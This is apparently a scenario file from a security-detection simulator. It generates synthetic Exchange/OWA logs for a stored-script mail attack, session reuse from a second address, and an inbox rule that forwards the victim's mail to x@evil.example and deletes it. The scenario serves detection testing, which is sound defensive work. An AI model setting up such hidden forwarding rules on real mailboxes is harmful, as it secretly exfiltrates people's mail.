"""A stored script in a mail (as CVE-2026-42897): the session is used from a second address."""

from __future__ import annotations

from exward.model.incident import Verdict
from exward.simulate.acts import cmdlets, mail, web
from exward.simulate.acts.cmdlets import Cmdlet
from exward.simulate.acts.mail import Message
from exward.simulate.acts.web import Request
from exward.simulate.world import SECOND, World

NAME = "owa-xss"
TITLE = "A script in a mail steals an OWA session; a rule hides and forwards mail"
SERVERS = 1

CLIENT = "203.0.113.97"
VICTIM = "e.fuchs"
_ACTIONS = ("FindItem", "GetItem")


def play(world: World) -> None:
    """Mail at 09:00, session taken at 09:20, rule at 09:26."""
    host = world.host
    mail.transport(
        world,
        host,
        world.at("09:00:00"),
        Message("news@evil.example", (f"{VICTIM}@contoso.example",), "Delivery", "203.0.113.98"),
    )
    for number in range(40):
        web.send(world, host, world.at("09:20:00") + number * 6 * SECOND, Request(
            CLIENT, "/owa/service.svc", f"action={_ACTIONS[number % 2]}&EP=1", "POST",
            user=f"CONTOSO\\{VICTIM}", agent="Mozilla/5.0 (X11; Linux x86_64)",
            action=_ACTIONS[number % 2], sent=180_000))  # fmt: skip
    web.send(world, host, world.at("09:26:00"), Request(
        CLIENT, "/owa/service.svc", "action=NewInboxRule&EP=1", "POST",
        user=f"CONTOSO\\{VICTIM}", agent="Mozilla/5.0 (X11; Linux x86_64)",
        action="NewInboxRule"))  # fmt: skip
    rule = {"Name": "..", "ForwardTo": "x@evil.example", "DeleteMessage": "True"}
    cmdlets.run(
        world,
        host,
        world.at("09:26:01"),
        Cmdlet("New-InboxRule", rule, caller=VICTIM, process=cmdlets.ECP, client="OWA"),
    )
    world.expect("collection-exfiltration", world.at("09:26:01"), "rule forwards mail outside")
    world.verdicts[host.name] = Verdict.COMPROMISED
